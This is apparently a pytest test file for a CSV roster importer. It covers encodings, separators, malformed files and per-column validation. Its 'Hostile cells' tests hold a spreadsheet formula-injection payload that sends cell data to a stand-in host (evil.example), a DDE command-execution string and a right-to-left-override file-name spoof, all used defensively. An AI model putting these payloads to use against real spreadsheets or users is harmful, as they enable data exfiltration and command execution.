"""A roster as a file: whatever programs write, and whatever somebody makes of it."""

import pytest

from core.errors import Invalid
from events.roster.file import LINES_AT_MOST, Record, read_table
from events.roster.lines import read_line


def lines(content: bytes | str) -> list[tuple[int, str, str]]:
    """The number of each line, with the name and address on it."""
    if isinstance(content, str):
        content = content.encode()
    return [
        (record.line, record.cells["name"], record.cells.get("email", ""))
        for record in read_table(content).records
    ]


def refusal(content: bytes | str) -> tuple[str, str]:
    with pytest.raises(Invalid) as refused:
        lines(content)
    assert refused.value.field == "file"
    return refused.value.code, str(refused.value)


def fault(**cells: str) -> dict[str, str]:
    """What is wrong with a line, by column."""
    record = Record(2, {"name": "Ana"} | cells, has_more=False)
    return {one.field: one.detail for one in read_line(record)[1]}


def understood(**cells: str) -> dict[str, str]:
    entry, faults = read_line(Record(2, {"name": "Ana"} | cells, has_more=False))
    assert not faults
    return entry._asdict()


ANA = [(2, "Ana", "ana@example.com"), (3, "José", "jose@example.com")]
TEXT = "name,email\nAna,ana@example.com\nJosé,jose@example.com\n"


# What programs write


@pytest.mark.parametrize("separator", ",;\t")
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_separators_and_ends_of_lines_are_found(separator: str, end: str) -> None:
    assert lines(TEXT.replace(",", separator).replace("\n", end)) == ANA


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_encodings_are_found(encoding: str) -> None:
    assert lines(TEXT.encode(encoding)) == ANA


def test_utf_16_of_either_byte_order_is_read() -> None:
    assert lines(b"\xfe\xff" + TEXT.encode("utf-16-be")) == ANA


def test_columns_are_in_any_order_however_they_are_written() -> None:
    table = read_table(b"Time Zone;E-Mail;NAME;Group\nUTC;a@b.de;Ana;7")
    assert table.records[0].cells == {
        "name": "Ana",
        "email": "a@b.de",
        "time_zone": "UTC",
    }
    assert table.unknown_columns == ["Group"]


def test_numbers_of_lines_are_those_of_the_file() -> None:
    text = 'name,email\n\n"Ana\nMaria",a@b.de\r\n,\nBen,\n'
    assert lines(text) == [(3, "Ana\nMaria", "a@b.de"), (6, "Ben", "")]


def test_a_separator_inside_of_quotation_marks_belongs_to_the_cell() -> None:
    assert lines('name,email\n"Lopes, ""Mia""",m@x.de') == [
        (2, 'Lopes, "Mia"', "m@x.de")
    ]


def test_missing_cells_are_empty() -> None:
    assert lines("email,name\nx@y.de,Ana\n,Ben")[1] == (3, "Ben", "")
    assert lines("name,email\nAna") == [(2, "Ana", "")]


# What is no roster


@pytest.mark.parametrize(
    ("content", "code", "said"),
    [
        (b"", "empty", "is empty"),
        (b"\xef\xbb\xbf \r\n", "empty", "is empty"),
        (b"name,email\n", "no_lines", "nobody below the first row"),
        (b"name,email\n,\n \n", "no_lines", ""),
        (b"Ana,ana@example.com\n", "no_name_column", "name, email, role"),
        (b"email\nx@y.de", "no_name_column", "“name” is missing"),
        (b"name,email,Name\nA,b@c.de,B", "column_twice", "two columns “name”"),
        ("name\nAna\nJosé\n".encode("latin-1"), "encoding", "Row 3 is not UTF-8"),
        ("name\nAna".encode("utf-16-le"), "encoding", "CSV UTF-8"),
        ("name\nAna".encode("utf-32"), "encoding", ""),
        (b"\xff\xfen\0a\0m", "encoding", ""),
        (b"PK\x03\x04 a workbook", "workbook", "Save it as “CSV UTF-8”"),
        (b'name,email\nA,\n"B,b@c.de\nC,', "quotation_marks", "From row 3 on"),
        (b'name\nA\n"B" x\nC,', "quotation_marks", "From row 3 on"),
    ],
)
def test_what_is_no_roster_is_refused_with_a_reason(
    content: bytes, code: str, said: str
) -> None:
    assert refusal(content)[0] == code
    assert said in refusal(content)[1]


def test_too_many_lines_are_refused() -> None:
    assert refusal("name\n" + "A\n" * (LINES_AT_MOST + 1))[0] == "too_many_lines"
    assert len(lines("name\n" + "A\n" * LINES_AT_MOST)) == LINES_AT_MOST


# Hostile cells


def test_a_formula_is_a_name_like_any_other() -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1)'
    assert understood(name=name)["name"] == name
    assert "not an email address" in fault(email="=cmd|' /C calc'!A0")["email"]


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("Ana\0", "U+0000"),
        ("A\x1b[31mna", "U+001B"),
        ("Ana\x7f", "U+007F"),
        ("Ana\u009b", "U+009B"),
        ("Ana \u202egpj.exe", "U+202E"),
        ("\u2066Ana\u2069", "changes the direction"),
        ("Jos\ufffd", "A letter was lost"),
        ("", "missing"),
        (" \u200d\u200b ", "missing"),
        ("x" * 201, "At most 200"),
        ("x" * 1_000_000, "At most 200"),
        ("\ufffd" * 1_000_000, "At most 200"),
    ],
)
def test_names_that_hide_something_are_refused(name: str, said: str) -> None:
    assert said in fault(name=name)["name"]


@pytest.mark.parametrize(
    "name",
    [
        "میرزا\u200cعلی",
        "ශ්\u200dරී",
        "\u200fسمر\u200e (Samar)",
        "O'Neill-Đặng",
        "👩\u200d🏫 Ana",
        "राम",
    ],
)
def test_names_of_all_scripts_stay_as_they_are(name: str) -> None:
    assert understood(name=name)["name"] == name


def test_spaces_and_what_nobody_sees_are_left_out() -> None:
    assert understood(name="\ufeffAna\u00a0\n Ma\u00adria\u200b ")["name"] == (
        "Ana Maria"
    )


def test_values_are_understood_however_they_are_written() -> None:
    values = understood(
        role="HOST",
        registration="Walk-in",
        time_zone="america/new york",
        language="AR",
    )
    assert values["role"] == "host"
    assert values["registration"] == "walk_in"
    assert values["time_zone"] == "America/New_York"
    assert values["language"] == "ar"


@pytest.mark.parametrize(
    ("column", "value", "said"),
    [
        ("email", "ana(at)example.com", "“ana(at)example.com” is not an email address"),
        ("email", f"a@{'x' * 300}.de", "At most 254"),
        ("email", "a\0@example.com", "not an email address"),
        ("role", "teacher", "“teacher” is not one of: host, attendee."),
        ("registration", "yes", "is not one of: registered"),
        ("time_zone", "Riyad", "Asia/Riyadh"),
        ("language", "xx", "is not one of: en, ar"),
    ],
)
def test_each_column_says_what_would_be_right(
    column: str, value: str, said: str
) -> None:
    assert said in fault(**{column: value})[column]


def test_messages_stay_short_whatever_is_in_a_cell() -> None:
    long = "x" * 1_000_000
    for column in ("email", "role", "registration", "time_zone", "language"):
        assert len(fault(**{column: long})[column]) < 200


def test_a_cell_too_many_is_told() -> None:
    record = read_table(b"name,email\nLopes, Maria,m@example.com").records[0]
    assert "quotation marks" in read_line(record)[1][0].detail
    assert not read_table(b"name,email\nAna,a@b.de,,").records[0].has_more


def test_too_many_columns_are_refused() -> None:
    assert refusal("name" + ",x" * 1000 + "\nAna")[0] == "too_many_columns"
